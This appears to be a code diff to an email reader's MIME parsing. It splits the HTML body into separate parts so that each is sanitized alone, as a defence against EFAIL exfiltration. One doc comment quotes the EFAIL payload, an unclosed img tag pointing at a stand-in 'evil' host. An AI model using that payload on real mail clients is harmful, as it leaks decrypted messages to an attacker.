@@ -88,10 +88,11 @@ function escapeHtml(text: string): string {
 
 /**
  * The HTML body of an entity, for the reader's sandboxed frame, unsanitized
- * (the renderer sanitizes it), or null when the entity has no HTML to show
- * (the reader shows `bodyText` then). It reads only what lies below the
- * entity it is given, the parts `bodyText` shows or their HTML alternatives:
- * a caller that passes only the protected entity gets nothing from outside it.
+ * (the renderer sanitizes it), as the list of parts shown one after the
+ * other, or null when the entity has no HTML to show (the reader shows
+ * `bodyText` then). It reads only what lies below the entity it is given,
+ * the parts `bodyText` shows or their HTML alternatives: a caller that
+ * passes only the protected entity gets nothing from outside it.
  *
  * - multipart/alternative: the last alternative that has HTML (RFC 2046,
  *   section 5.1.4: the alternatives come in increasing faithfulness);
@@ -99,11 +100,17 @@ function escapeHtml(text: string): string {
  * - any other multipart: the shown parts in order, text parts beside HTML
  *   ones as escaped preformatted text, so that nothing the text holds is lost;
  * - a text/html part that is not an attachment: its decoded text.
+ *
+ * The parts stay apart: each is sanitized on its own before they are joined
+ * (renderer/src/lib/sanitize.ts), so that markup one part leaves open (an
+ * unclosed `<img src="…`) cannot take in the next. That is EFAIL's direct
+ * exfiltration (Poddebniak et al., USENIX Security 2018): part 1
+ * `<img src="http://evil/?`, part 2 the decrypted text, part 3 `">`.
  */
-export function bodyHtml(part: MimePart, opts: BodyOptions = {}): string | null {
+export function bodyHtmlParts(part: MimePart, opts: BodyOptions = {}): string[] | null {
   if (part.contentType === 'multipart/alternative') {
     for (const child of [...part.children].reverse()) {
-      const html = bodyHtml(child, opts);
+      const html = bodyHtmlParts(child, opts);
       if (html !== null) return html;
     }
     return null;
@@ -111,23 +118,44 @@ export function bodyHtml(part: MimePart, opts: BodyOptions = {}): string | null 
   if (part.contentType === 'multipart/related') {
     const start = part.params.start?.trim();
     const root = (start ? part.children.find((c) => headerValue(c, 'content-id')?.trim() === start) : undefined) ?? part.children[0];
-    return root ? bodyHtml(root, opts) : null;
+    return root ? bodyHtmlParts(root, opts) : null;
   }
   if (part.contentType.startsWith('multipart/')) {
     const shown = shownChildren(part);
-    const html = shown.map((c) => bodyHtml(c, opts));
+    const html = shown.map((c) => bodyHtmlParts(c, opts));
     if (html.every((h) => h === null)) return null;
-    return shown
-      .map((child, i) => {
-        const own = html[i];
-        if (own !== null && own !== undefined) return own;
-        const text = bodyText(child, opts);
-        return text === '' ? '' : `<pre>${escapeHtml(text)}</pre>`;
-      })
-      .filter((h) => h !== '')
-      .join('\n');
+    return shown.flatMap((child, i) => {
+      const own = html[i];
+      if (own !== null && own !== undefined) return own;
+      const text = bodyText(child, opts);
+      return text === '' ? [] : [`<pre>${escapeHtml(text)}</pre>`];
+    });
   }
   if (isAttachment(part) || part.contentType !== 'text/html') return null;
   // One byte beyond the limit, so that the caller sees the HTML was longer and says so.
-  return shownPartText(part, HTML_LIMIT + 1, opts);
+  return [shownPartText(part, HTML_LIMIT + 1, opts)];
+}
+
+/** Where each part starts in the joined HTML (`joinHtmlParts`). */
+export interface JoinedHtml {
+  html: string;
+  /** The offset of each part in `html`, in order (the first is 0). */
+  starts: number[];
+}
+
+/** The parts as one string (one per line) and where each starts, for a reader that sanitizes them one by one. */
+export function joinHtmlParts(parts: readonly string[]): JoinedHtml {
+  const starts: number[] = [];
+  let offset = 0;
+  for (const p of parts) {
+    starts.push(offset);
+    offset += p.length + 1;
+  }
+  return { html: parts.join('\n'), starts };
+}
+
+/** The HTML body as one string (the parts joined; see bodyHtmlParts for why the reader keeps them apart). */
+export function bodyHtml(part: MimePart, opts: BodyOptions = {}): string | null {
+  const parts = bodyHtmlParts(part, opts);
+  return parts === null ? null : parts.join('\n');
 }
